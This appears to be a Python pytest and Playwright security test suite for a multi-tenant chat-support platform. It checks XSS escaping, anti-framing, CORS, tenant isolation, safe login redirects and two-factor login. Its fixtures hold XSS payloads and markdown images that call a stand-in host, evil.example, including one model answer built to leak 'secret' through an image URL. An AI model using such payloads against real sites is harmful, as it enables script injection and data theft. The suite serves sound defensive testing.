"""A person's and an attacker's actions in a browser, on the running platform."""

import base64
import hashlib
import hmac
import json
import re
import threading
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import quote, unquote, urlsplit

import httpx2
import pytest
from django_otp.oath import totp
from playwright.sync_api import Browser, FrameLocator, Page, expect, sync_playwright

from chatplatform.testing import stub_model
from chatplatform.testing.stub_model import StubModel
from drills.platform import HTML, OWNER, Platform, log_in, wait_until

pytestmark = pytest.mark.timeout(1800)
PATIENCE = 60_000
EVIL = "evil.example"  # the browser is told that it is this machine
QUESTION, ANSWER = "How long do I have to return an order?", "within 30 days of delivery"
CHAT = "/ai/client/chat"
HOSTILE = (
    "foreignword <img src=x onerror=alert(1)><script>alert(2)</script>"
    " [a](javascript:alert(3)) ![b](https://evil.example/p.png?q=1) \u202egnp.exe \u2067rtl\u2069 "
    + "*"
    * 5000
)


class Shop(Platform):
    """The demo client, with a scripted model and one browser."""

    browser: Browser
    model: StubModel

    def password(self) -> str:
        return self.secret("demo_password")

    def public_key(self) -> dict[str, str]:
        return {"API-KEY": self.secret("demo_page_key")}

    def origin(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    def visit(self) -> Page:
        """A new visitor's browser page. A dialog means an injected script, and fails the test."""
        context = self.browser.new_context(base_url=self.origin())
        context.set_default_timeout(PATIENCE)
        page = context.new_page()
        page.on("dialog", lambda dialog: pytest.fail(f"a script ran: {dialog.message}"))
        return page


@pytest.fixture(scope="module")
def shop(tmp_path_factory: pytest.TempPathFactory, chromium_path: str) -> Iterator[Shop]:
    arguments = ["--no-sandbox", f"--host-resolver-rules=MAP {EVIL} 127.0.0.1"]
    with stub_model.running() as model, sync_playwright() as driver:
        running = Shop(
            tmp_path_factory.mktemp("people"), DEBUG="true", LLM_BASE_URL=model.base_url,
            LLM_MODEL="stub", LLM_API_KEY="stub", LLM_DEADLINE_SECONDS="20",
        )  # fmt: skip
        running.model = model
        running.browser = driver.chromium.launch(executable_path=chromium_path, args=arguments)
        yield running
        running.browser.close()
        running.stop()


@pytest.fixture(scope="module")
def rival(shop: Shop) -> dict[str, Any]:
    """Another company: its owner's sign-in, a bot, and a chat with hostile texts."""
    form = {"company_name": "Rival", "full_name": "Rita foreignword"}
    login = {"email": "rita@rival.example", "password": "a-long-rival-word-7"}
    shop.call("POST", "/identity/register-trial", {}, json={**form, **login})
    owner = shop.login(login["email"], login["password"])
    body = {"bot_name": "Rival foreignword", "languages": ["en"], "default_language": "en"}
    bot = shop.call("POST", "/ai/bot", owner, json=body)["id"]
    made = shop.call(
        "POST", "/identity/api-keys", owner,
        json={"name": "foreignword", "scope": "secret", "bot_id": bot},
    )  # fmt: skip
    key = {"API-KEY": made["key"]}
    chat = shop.call("POST", CHAT, key, json={"customer": {"name": HOSTILE[:150]}})
    path = f"{CHAT}/{chat['id']}"
    shop.call("POST", path, key, json={"text": HOSTILE, "reply": "async"})
    return {**login, "bot": bot, "chat": chat["id"], "customer": chat["customer_id"],
            "api_key": made["id"]}  # fmt: skip


def widget_of(page: Page) -> FrameLocator:
    page.goto("/demo")
    widget = page.frame_locator("iframe")
    widget.get_by_role("button", name="Open the chat").click()
    return widget


def write(widget: FrameLocator, text: str) -> None:
    widget.get_by_label("Write a message").fill(text)
    widget.get_by_label("Write a message").press("Enter")


def answers(widget: FrameLocator) -> Any:
    """The bot's finished answers, without its welcome and a draft."""
    return widget.locator(".message.bot:not(.draft)", has=widget.locator(".thumbs"))


def test_a_newcomers_first_question_is_answered_with_its_source(shop: Shop) -> None:
    page = shop.visit()
    widget = widget_of(page)
    write(widget, QUESTION)
    expect(answers(widget)).to_contain_text(ANSWER, timeout=PATIENCE)
    expect(widget.locator(".sources summary")).to_have_text(["¹ Returns"])
    expect(widget.locator(".message.system")).to_have_count(0)
    page.context.close()


def test_the_web_process_dies_in_the_middle_of_an_answer(shop: Shop) -> None:
    """No partial or repeated answer stays, and no message is lost."""
    page = shop.visit()
    widget = widget_of(page)
    shop.model.play("drip")
    write(widget, QUESTION)
    expect(widget.locator(".draft")).to_be_visible(timeout=PATIENCE)
    assert shop.kill("web.serve")
    write(widget, "And to Spain?")
    shop.model.play("ok")
    expect(answers(widget).first).to_contain_text(ANSWER, timeout=3 * PATIENCE)
    expect(widget.locator(".waiting")).to_have_count(0, timeout=PATIENCE)
    expect(widget.locator(".draft")).to_have_count(0, timeout=PATIENCE)
    written = widget.locator(".message.customer .text")
    expect(written).to_have_text([QUESTION, "And to Spain?"])
    frame = next(frame for frame in page.frames if "/widget/" in frame.url)
    kept = json.loads(frame.evaluate("JSON.stringify(Object.assign({}, localStorage))"))
    chat = next(json.loads(text) for text in kept.values() if '"token"' in text)
    visitor = {**shop.public_key(), "Visitor-Token": chat["token"]}
    rows = shop.call("GET", f"{CHAT}/history/{chat['chat']}", visitor)["items"]
    replied = [row["in_reply_to"] for row in rows if row["in_reply_to"]]
    assert len(replied) == len(set(replied)) <= 2
    assert [row["sender"]["type"] for row in rows].count("customer") == 2
    page.context.close()


@pytest.fixture
def stranger(shop: Shop) -> Iterator[Callable[[str, str], Page]]:
    """Opens a page on a foreign host that embeds one of our addresses in a frame."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            address = unquote(urlsplit(self.path).query)
            self.wfile.write(f'<iframe src="{shop.origin()}{address}"></iframe>'.encode())

        def log_message(self, *_: object) -> None:
            """Log nothing."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    opened: list[Page] = []

    def show(host: str, path: str) -> Page:
        page = shop.visit()
        opened.append(page)
        page.goto(f"http://{host}:{server.server_port}/?{quote(path, safe='')}")
        return page

    yield show
    for page in opened:
        page.context.close()
    server.shutdown()
    server.server_close()


def test_a_strange_page_frames_neither_widget_nor_desk_nor_site(
    shop: Shop, stranger: Callable[[str, str], Page]
) -> None:
    frame = f"/widget/v1/frame?key={shop.secret('demo_page_key')}"
    shown = stranger("localhost", frame).frames[1]
    assert shown.url.startswith(f"{shop.origin()}/widget/"), shown.url
    paths = [(EVIL, frame)]
    paths += [(host, path) for host in (EVIL, "localhost")
              for path in ("/admin/desk/", "/admin/login/", "/", "/demo")]  # fmt: skip
    for host, path in paths:
        page = stranger(host, path)
        for _ in range(50):
            if page.frames[1].url:
                break
            page.wait_for_timeout(100)
        assert page.frames[1].url.startswith("chrome-error:"), (host, path, page.frames[1].url)


@pytest.mark.parametrize(
    "origin", [f"https://{EVIL}", f"http://localhost.{EVIL}", "null", "http://LOCALHOST.x", "http://xn--lcalhost-3za"],
)  # fmt: skip
def test_a_strange_origin_is_granted_nothing(shop: Shop, origin: str) -> None:
    for method, more in (("GET", {}), ("OPTIONS", {"Access-Control-Request-Method": "GET"})):
        headers = {**shop.public_key(), "Origin": origin, **more}
        reply = shop.client.request(method, "/ai/bot/config", headers=headers)
        assert "Access-Control-Allow-Origin" not in reply.headers
        assert "Origin" in reply.headers["Vary"]


def test_a_visitor_reads_their_own_chat_alone(shop: Shop) -> None:
    key = shop.public_key()
    first, second = (shop.call("POST", CHAT, key, json={}) for _ in range(2))
    token = {**key, "Visitor-Token": first["visitor_token"]}
    assert shop.client.get(f"{CHAT}/{first['id']}", headers=token).status_code == 200
    for path in (f"{CHAT}/{second['id']}", f"{CHAT}/history/{second['id']}"):
        assert shop.client.get(path, headers=token).status_code == 404
        assert shop.client.get(path, headers=key).status_code == 404
    walked = (shop.client.get(f"{CHAT}/{number}", headers=token) for number in range(1, 200))
    assert {reply.status_code for reply in walked} <= {404, 422}
    # Typing another customer's e-mail address opens a new chat, not theirs.
    customer = {"email": "customer1@mail.example"}
    typed = shop.call("POST", CHAT, key, json={"customer": customer})
    assert typed["id"] not in {first["id"], second["id"]}
    known = shop.call("GET", "/ai/customers", shop.login(OWNER, shop.password()),
                      params={"q": customer["email"]})["items"]  # fmt: skip
    assert len(known) == 2
    assert len({row["id"] for row in known}) == 2


def test_who_a_visitor_is_must_be_signed(shop: Shop) -> None:
    owner = shop.login(OWNER, shop.password())
    secret = shop.call("POST", "/ai/bot/1/identity-secret", owner)["secret"]
    right = hmac.new(secret.encode(), b"shop-1003", hashlib.sha256).hexdigest()
    seen = []
    for signature in (None, "0" * 64, right):
        body = {"customer": {"external_id": "shop-1003"}, "identity_signature": signature}
        seen.append(shop.client.post(CHAT, headers=shop.public_key(), json=body).status_code)
    assert seen == [401, 401, 201]


def test_the_door_of_the_site(shop: Shop) -> None:
    assert shop.client.get("/admin/login/").headers["X-Frame-Options"] == "DENY"
    login = {"username": OWNER, "password": shop.password()}
    assert httpx2.post(f"{shop.origin()}/admin/login/", data=login).status_code == 403
    with httpx2.Client(base_url=shop.origin(), timeout=60, headers=HTML) as site:
        site.cookies.set("sessionid", "a" * 32, domain="127.0.0.1")
        inside = log_in(site, OWNER, shop.password(), next=f"//{EVIL}/")
    assert inside.status_code == 302
    assert EVIL not in inside.headers["Location"]
    cookie = next(text for text in inside.headers.get_list("Set-Cookie") if "sessionid=" in text)
    assert "a" * 32 not in cookie
    assert {"HttpOnly", "SameSite=Lax"} <= {part.strip() for part in cookie.split(";")}
    old = {"Cookie": f"sessionid={'a' * 32}"}
    assert httpx2.get(f"{shop.origin()}/admin/", headers=old).status_code == 302


def offered(agent: httpx2.Client, path: str, **query: Any) -> str:
    reply = agent.get(path, params=query, follow_redirects=True)
    assert reply.status_code == 200, (path, reply.status_code)
    return reply.text


def test_an_agent_finds_nothing_of_another_company(shop: Shop, rival: dict[str, Any]) -> None:
    with shop.signed_in("amy@demo.example") as site:
        finds_nothing(site, rival)
    # Also through the API, with a person's token.
    amy = shop.login("amy@demo.example", shop.password())
    chat = f"/ai/chat/{rival['chat']}"
    for path in (chat, f"{chat}/history", f"{chat}/steps", f"/ai/customers/{rival['customer']}"):
        assert shop.client.get(path, headers=amy).status_code in {404, 405}, path
    found = shop.call("GET", "/ai/chats", amy, params={"q": "foreignword"})["items"]
    assert found == []


def finds_nothing(site: httpx2.Client, rival: dict[str, Any]) -> None:
    """Try lists, search, filters, ids in URLs, history, the palette and autocomplete."""
    lists = ["chats/conversation", "chats/customer", "bots/bot", "bots/document"]
    for page in lists:
        for query in ({}, {"q": "foreignword"}, {"q": rival["chat"]}, {"client__id__exact": 2}):
            found = offered(site, f"/admin/{page}/", **query)
            assert not re.search("Rival|Rita|onerror", found), (page, query)
    rows = [("chats/conversation", rival["chat"]), ("chats/customer", rival["customer"]),
            ("bots/bot", rival["bot"]), ("identity/apikey", rival["api_key"])]  # fmt: skip
    for page, row in rows:
        for what in ("change", "history", "delete"):
            # An address without a view is redirected once, like an unknown id.
            reply = site.get(f"/admin/{page}/{row}/{what}/", follow_redirects=True)
            assert reply.status_code in {403, 404}, (page, what, reply.status_code)
            assert "Rival" not in reply.text
    assert not re.search("Rival|Rita", offered(site, "/admin/search/", s="foreignword"))
    assert rival["chat"] not in offered(site, "/admin/search/", s=rival["chat"][:13])
    query = {"app_label": "chats", "model_name": "conversation", "field_name": "bot"}
    reply = site.get("/admin/autocomplete/", params={**query, "term": "foreignword"})
    assert reply.status_code == 403 or not reply.json()["results"]


def test_hostile_words_are_words_everywhere(shop: Shop, rival: dict[str, Any]) -> None:
    page = shop.visit()
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.goto("/admin/login/")
    page.get_by_label("Email").fill(rival["email"])
    page.get_by_label("Password").fill(rival["password"])
    page.get_by_role("button", name="Sign in").click()
    page.wait_for_url("**/admin/")
    for path in ("/admin/chats/conversation/", f"/admin/chats/conversation/{rival['chat']}/change/",
                 "/admin/chats/customer/", f"/admin/desk/#{rival['chat']}"):  # fmt: skip
        page.goto(path)
        expect(page.get_by_text("onerror=alert(1)").first).to_be_attached(timeout=PATIENCE)
        assert page.locator("img[src='x'], a[href^='javascript:'], img[src*='evil']").count() == 0
    elsewhere = [url for url in asked if not url.startswith((shop.origin(), "data:", "blob:"))]
    assert elsewhere == []
    page.context.close()


def test_what_a_model_makes_up_asks_nobody(shop: Shop) -> None:
    page = shop.visit()
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    widget = widget_of(page)
    quoted = "You can return any unused item within 30 days of delivery [1]."
    picture = f"<img src=x onerror=alert(4)> ![p](https://{EVIL}/p.png?q=secret)"
    shop.model.play(f"say:{quoted} {picture}")
    write(widget, QUESTION)
    expect(answers(widget)).to_contain_text("within 30 days", timeout=PATIENCE)
    shop.model.play("ok")
    assert widget.locator(".message img").count() == 0
    assert [url for url in asked if EVIL in url] == []
    page.context.close()


def test_a_second_factor_is_asked_for_and_each_code_serves_once(
    shop: Shop, rival: dict[str, Any]
) -> None:
    page = shop.visit()

    def enter() -> None:
        page.goto("/admin/login/")
        page.get_by_label("Email").fill(rival["email"])
        page.get_by_label("Password").fill(rival["password"])
        page.get_by_role("button", name="Sign in").click()

    def give(code: str) -> None:
        page.get_by_role("textbox", name="Code").fill(code)
        page.get_by_role("button", name="Sign in").click()

    def leave() -> None:
        page.locator("#logout-form").evaluate("form => form.submit()")
        page.wait_for_load_state()
        page.context.clear_cookies()

    enter()
    page.wait_for_url("**/admin/")
    page.goto("/admin/second-factor/")
    code = f"{totp(base64.b32decode(page.locator('#secret').inner_text())):06}"
    page.get_by_label("Password").fill(rival["password"])
    page.get_by_role("textbox", name="Code").fill(code)
    page.get_by_role("button", name="Set up").click()
    recovery = page.locator("#recovery-codes li").first.inner_text()
    page.get_by_role("link", name="I've saved these codes").click()
    leave()
    for tried, is_right in ((code, False), (recovery, True), (recovery, False)):
        enter()
        give(tried)
        if is_right:
            page.get_by_role("heading", name="Rival").wait_for()
            leave()
        else:
            page.get_by_text("This code is wrong").wait_for()
            page.context.clear_cookies()
    page.context.close()


def test_staff_enter_by_a_second_factor_alone_where_the_setting_says_so(tmp_path: Path) -> None:
    strict = Shop(tmp_path, DEBUG="true", STAFF_SECOND_FACTOR="true")
    try:
        with strict.signed_in("admin@demo.example") as site:
            for path in ("/admin/", "/admin/identity/client/", "/admin/chats/conversation/"):
                reply = site.get(path)
                assert reply.headers.get("Location") == "/admin/second-factor/", path
    finally:
        strict.stop()
    wait_until(lambda: not strict.family(), what="its end", seconds=10)
